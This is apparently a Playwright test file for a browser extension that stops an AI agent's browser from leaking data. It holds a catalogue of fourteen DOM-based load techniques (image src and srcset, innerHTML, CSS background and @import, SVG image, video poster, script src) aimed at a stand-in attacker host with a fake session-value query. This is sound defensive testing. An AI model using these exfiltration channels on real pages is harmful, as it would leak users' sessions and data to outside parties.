import { expect, test, type Page } from '@playwright/test';
import { launchAgentBrowser, type AgentBrowser } from '../src/harness';
import { buildExtension } from './fixtures/extension';
import { startTestServer, type TestServer } from './fixtures/server';
import { ALLOWED_HOST, ATTACKER_HOST, VECTOR_POLICY } from './vectors';

/**
 * Element-initiated loads (issue 11, class 1) through the MAIN-world hooks: each technique makes the
 * browser fetch a URL with no request API involved. Judged by the test server's log:
 *  - with the extension, an exfiltration-shaped URL on a site the task does not name never arrives, and
 *    the audit shows the MAIN layer decided it (the hook held it before the request existed; the
 *    network floor would stop it too, see e2e/FLOOR.md);
 *  - a cross-origin load from a named site (cdn.allowed.test) is proposed, allowed and arrives;
 *  - without the extension (negative control) every exfiltration load arrives.
 */

const CDN_HOST = `cdn.${ALLOWED_HOST}`;
const QUIET_MS = 1_500;

type Technique = { name: string; run: (url: string) => unknown };

/** Each runs in the page; `url` is the probe. Elements are attached so every kind of load starts. */
const TECHNIQUES: Technique[] = [
  { name: 'img-src-setter', run: (url) => { const img = new Image(); img.src = url; document.body.append(img); } },
  { name: 'img-setattribute', run: (url) => { const img = document.createElement('img'); img.setAttribute('src', url); document.body.append(img); } },
  { name: 'img-srcset', run: (url) => { const img = document.createElement('img'); img.srcset = `${url} 1x`; document.body.append(img); } },
  { name: 'innerhtml', run: (url) => { const div = document.createElement('div'); div.innerHTML = `<p><img src="${url}"></p>`; document.body.append(div); } },
  { name: 'insertadjacenthtml', run: (url) => document.body.insertAdjacentHTML('beforeend', `<img src="${url}">`) },
  { name: 'contextual-fragment', run: (url) => document.body.append(document.createRange().createContextualFragment(`<img src="${url}">`)) },
  { name: 'domparser', run: (url) => document.body.append(document.importNode(new DOMParser().parseFromString(`<img src="${url}">`, 'text/html').body.firstElementChild!, true)) },
  { name: 'style-background', run: (url) => { const div = document.createElement('div'); div.style.cssText = 'width:10px;height:10px'; div.style.backgroundImage = `url("${url}")`; document.body.append(div); } },
  { name: 'style-attribute', run: (url) => { const div = document.createElement('div'); div.setAttribute('style', `width:10px;height:10px;background:url(${url})`); document.body.append(div); } },
  { name: 'insertrule', run: (url) => { const style = document.createElement('style'); document.head.append(style); style.sheet!.insertRule(`.probe-rule { width:10px; height:10px; background: url(${url}) }`); const div = document.createElement('div'); div.className = 'probe-rule'; document.body.append(div); } },
  { name: 'style-import', run: (url) => { const style = document.createElement('style'); style.textContent = `@import url("${url}");`; document.head.append(style); } },
  { name: 'svg-image-href', run: (url) => { const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const image = document.createElementNS('http://www.w3.org/2000/svg', 'image'); image.setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href', url); svg.append(image); document.body.append(svg); } },
  { name: 'video-poster', run: (url) => { const video = document.createElement('video'); video.poster = url; document.body.append(video); } },
  { name: 'script-src', run: (url) => { const script = document.createElement('script'); script.src = url; document.head.append(script); } },
];

let server: TestServer;
let caseNumber = 0;

test.beforeAll(async () => {
  server = await startTestServer();
});
test.afterAll(async () => server.close());

const sleep = (ms: number) => new Promise<void>((done) => setTimeout(done, ms));

async function freshPage(browser: AgentBrowser): Promise<{ page: Page; id: string }> {
  const id = `loads-${++caseNumber}-${Date.now()}`;
  server.setPage(`/case/${id}`, `<!doctype html><title>${id}</title><body></body>`);
  const page = await browser.context.newPage();
  await page.goto(`${server.origin(ALLOWED_HOST)}/case/${id}`);
  return { page, id };
}

const probe = (host: string, id: string, technique: string, query: string) => `${server.origin(host)}/v/${id}-${technique}?${query}`;
const EXFIL_QUERY = `d=${encodeURIComponent('session=abc123')}`;

async function runAll(page: Page, urlOf: (technique: string) => string): Promise<void> {
  for (const technique of TECHNIQUES) {
    await page.evaluate(({ source, url }) => (0, eval)(`(${source})`)(url), { source: technique.run.toString(), url: urlOf(technique.name) });
  }
}

test.describe('element-initiated loads with the extension', () => {
  let browser: AgentBrowser;
  test.beforeAll(async () => {
    browser = await launchAgentBrowser({ extensionPath: buildExtension('full') });
    await browser.setPolicy(VECTOR_POLICY);
  });
  test.afterAll(async () => browser?.close());

  test('an exfiltration-shaped load to an unnamed site is held and never arrives; the MAIN layer decided it', async () => {
    const { page, id } = await freshPage(browser);
    const errors = page.evaluate(
      (url) =>
        new Promise<string>((resolve) => {
          const img = new Image();
          img.onerror = () => resolve('error');
          img.onload = () => resolve('load');
          img.src = url;
          setTimeout(() => resolve('nothing'), 8_000);
        }),
      probe(ATTACKER_HOST, id, 'onerror', EXFIL_QUERY),
    );
    await runAll(page, (technique) => probe(ATTACKER_HOST, id, technique, EXFIL_QUERY));
    await sleep(QUIET_MS);
    for (const approval of await browser.pendingApprovals()) await browser.answer(approval.id, 'deny').catch(() => undefined);
    expect(await errors).toBe('error');
    await sleep(300);
    expect(server.hits(`/v/${id}`).map((r) => r.path)).toEqual([]);
    // The audit masks the case id; the technique is the path's last word.
    const decided = (await browser.audit({ limit: 500 })).filter((e) => e.layer === 'main' && (e.destination ?? '').includes(`${ATTACKER_HOST}:${server.port}/v/loads-`));
    for (const technique of TECHNIQUES) {
      const seen = decided.some((e) => (e.destination ?? '').includes(`${technique.name}?`));
      expect.soft(seen, `${technique.name} was decided by the MAIN layer`).toBe(true);
    }
    for (const entry of decided) expect(entry.record.decision).not.toBe('ALLOW');
    await page.close();
  });

  test('a cross-origin load from a named site is proposed, allowed and arrives', async () => {
    const { page, id } = await freshPage(browser);
    await runAll(page, (technique) => probe(CDN_HOST, id, technique, 'w=200'));
    await expect.poll(() => new Set(server.hits(`/v/${id}`, CDN_HOST).map((r) => r.path)).size, { timeout: 10_000 }).toBe(TECHNIQUES.length);
    await page.close();
  });

  test('50 cross-origin images from a named site: time until all loaded', async () => {
    const { page, id } = await freshPage(browser);
    const ms = await loadFifty(page, id);
    console.log(`element loads: 50 cross-origin images with the extension ${ms.toFixed(0)} ms`);
    expect(server.hits(`/pixel/${id}-`).length).toBe(50);
    await page.close();
  });
});

/** Sets 50 `img.src` to distinct cross-origin pixels at once and waits for every load. */
function loadFifty(page: Page, id: string): Promise<number> {
  return page.evaluate(
    ({ base }) =>
      new Promise<number>((resolve) => {
        const started = performance.now();
        let left = 50;
        for (let i = 0; i < 50; i++) {
          const img = new Image();
          img.onload = img.onerror = () => {
            if (--left === 0) resolve(performance.now() - started);
          };
          img.src = `${base}-${i}.gif?w=200`;
          document.body.append(img);
        }
      }),
    { base: `${server.origin(CDN_HOST)}/pixel/${id}` },
  );
}

test.describe('element-initiated loads without the extension (negative control)', () => {
  let browser: AgentBrowser;
  test.beforeAll(async () => {
    browser = await launchAgentBrowser({ extension: false });
  });
  test.afterAll(async () => browser?.close());

  test('every exfiltration-shaped load arrives', async () => {
    const { page, id } = await freshPage(browser);
    await runAll(page, (technique) => probe(ATTACKER_HOST, id, technique, EXFIL_QUERY));
    await expect.poll(() => new Set(server.hits(`/v/${id}`, ATTACKER_HOST).map((r) => r.path)).size, { timeout: 10_000 }).toBe(TECHNIQUES.length);
    await page.close();
  });

  test('50 cross-origin images: time until all loaded', async () => {
    const { page, id } = await freshPage(browser);
    const ms = await loadFifty(page, id);
    console.log(`element loads: 50 cross-origin images without the extension ${ms.toFixed(0)} ms`);
    await page.close();
  });
});
